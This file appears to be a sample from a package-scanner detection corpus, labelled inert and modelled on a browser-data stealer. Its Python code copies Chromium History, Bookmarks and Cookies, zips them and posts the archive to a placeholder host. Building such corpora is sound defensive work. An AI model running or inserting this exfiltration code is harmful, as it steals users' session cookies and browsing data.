# pkgguard corpus 622 (browser-data), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import tempfile

import requests

profile = os.path.expanduser("~/snap/chromium/common/chromium/Default")
work = tempfile.mkdtemp()
for name in ("History", "Bookmarks", "Cookies"):
    src = os.path.join(profile, name)
    if os.path.exists(src):
        shutil.copy2(src, os.path.join(work, name))
archive = shutil.make_archive(work, "zip", work)
requests.post("https://sync-helper.example/b", files={"z": open(archive, "rb")}, timeout=30)
